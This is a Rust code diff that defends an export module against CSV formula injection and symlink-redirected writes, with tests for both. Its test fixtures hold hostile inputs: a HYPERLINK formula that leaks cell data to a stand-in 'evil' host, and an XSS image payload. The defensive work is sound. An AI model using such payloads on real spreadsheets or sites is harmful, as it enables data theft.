@@ -122,13 +122,25 @@ pub fn write_stream<W: Write, B: Borrow<IntegrationItem>>(
             let mut writer = csv::Writer::from_writer(out);
             writer.write_record(CSV_COLUMNS).map_err(io_error)?;
             for item in items {
-                writer.write_record(row(item?.borrow())).map_err(io_error)?;
+                let cells = row(item?.borrow()).map(inert);
+                writer.write_record(cells).map_err(io_error)?;
             }
             writer.flush().map_err(io_error)
         }
         ExportFormat::Xlsx => Err(CoreError::invalid_argument(
             "XLSX needs a file: use --output (or Export in the app).",
         )),
+    }
+}
+
+/// A CSV cell a spreadsheet will not run: one starting with `=`, `+`, `-`, `@`, a tab or a
+/// carriage return (a formula, or one in disguise) gets a leading `'`, which Excel and LibreOffice
+/// read as "this is text". XLSX needs none of this: its cells are written as strings.
+fn inert(cell: String) -> String {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{cell}")
+    } else {
+        cell
     }
 }
 
@@ -187,12 +199,10 @@ pub fn export_stream<B: Borrow<IntegrationItem>>(
     let partial = path.with_file_name(format!(".{}.partial", file_name.to_string_lossy()));
     let mut count = 0u64;
     let counted = items.inspect(|_| count += 1);
+    let file = create_private(&partial).map_err(|e| fail("create", &e))?;
     let written = match format {
-        ExportFormat::Xlsx => write_xlsx(&partial, counted),
-        _ => {
-            let file = std::fs::File::create(&partial).map_err(|e| fail("create", &e))?;
-            write_stream(std::io::BufWriter::new(file), format, counted)
-        }
+        ExportFormat::Xlsx => write_xlsx(file, &partial, counted),
+        _ => write_stream(std::io::BufWriter::new(file), format, counted),
     };
     if let Err(error) = written {
         let _ = std::fs::remove_file(&partial);
@@ -202,7 +212,25 @@ pub fn export_stream<B: Borrow<IntegrationItem>>(
     Ok(count)
 }
 
+/// A new file readable by its owner only (exports hold names and e-mails). Whatever is at the
+/// path — a stale temporary file, or a symlink someone planted to redirect the write — is
+/// removed first, and the file is created only if nothing is there (`create_new` never follows
+/// a link).
+fn create_private(path: &Path) -> std::io::Result<std::fs::File> {
+    match std::fs::remove_file(path) {
+        Ok(()) => {}
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => {}
+        Err(e) => return Err(e),
+    }
+    let mut options = std::fs::OpenOptions::new();
+    options.write(true).create_new(true);
+    #[cfg(unix)]
+    std::os::unix::fs::OpenOptionsExt::mode(&mut options, 0o600);
+    options.open(path)
+}
+
 fn write_xlsx<B: Borrow<IntegrationItem>>(
+    file: std::fs::File,
     path: &Path,
     items: impl Iterator<Item = Result<B>>,
 ) -> Result<()> {
@@ -236,7 +264,7 @@ fn write_xlsx<B: Borrow<IntegrationItem>>(
             }
         }
     }
-    workbook.save(path).map_err(xlsx)
+    workbook.save_to_writer(file).map_err(xlsx)
 }
 
 #[cfg(test)]
@@ -269,6 +297,57 @@ mod tests {
         assert_eq!(rows.len(), 2);
         assert_eq!(&rows[0][3], "Ada, \"the\" first");
         assert_eq!(&rows[1][3], "<img src=x onerror=alert(1)>");
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn an_export_is_private_and_never_follows_a_planted_link() {
+        use std::os::unix::fs::PermissionsExt;
+        let dir = std::env::temp_dir().join(format!("inlet-export-modes-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&dir);
+        std::fs::create_dir_all(&dir).unwrap();
+        let victim = dir.join("victim.txt");
+        std::fs::write(&victim, "keep me").unwrap();
+        for format in [ExportFormat::Csv, ExportFormat::Xlsx] {
+            let path = dir.join(format!("items.{}", format.extension()));
+            let partial = dir.join(format!(".items.{}.partial", format.extension()));
+            std::os::unix::fs::symlink(&victim, &partial).unwrap();
+            export_to_path(&path, format, &items()).unwrap();
+            let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
+            assert_eq!(mode, 0o600, "{format:?}");
+            assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep me");
+        }
+        std::fs::remove_dir_all(&dir).ok();
+    }
+
+    #[test]
+    fn csv_cells_that_a_spreadsheet_would_run_are_text() {
+        let evil = [
+            "=HYPERLINK(\"https://evil/?\"&B2,\"x\")",
+            "+1+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\t=1",
+            "\r=1",
+        ];
+        let items: Vec<IntegrationItem> = evil
+            .iter()
+            .map(|name| IntegrationItem::new(Integration::Hubspot, "1", "contact", *name))
+            .chain([IntegrationItem::new(
+                Integration::Hubspot,
+                "2",
+                "contact",
+                "Ada = 1",
+            )])
+            .collect();
+        let mut out = Vec::new();
+        write_items(&mut out, ExportFormat::Csv, &items).unwrap();
+        let mut reader = csv::Reader::from_reader(out.as_slice());
+        let names: Vec<String> = reader.records().map(|r| r.unwrap()[3].to_owned()).collect();
+        for (name, written) in evil.iter().zip(&names) {
+            assert_eq!(written, &format!("'{name}"));
+        }
+        assert_eq!(names[6], "Ada = 1", "only a leading character counts");
     }
 
     #[test]
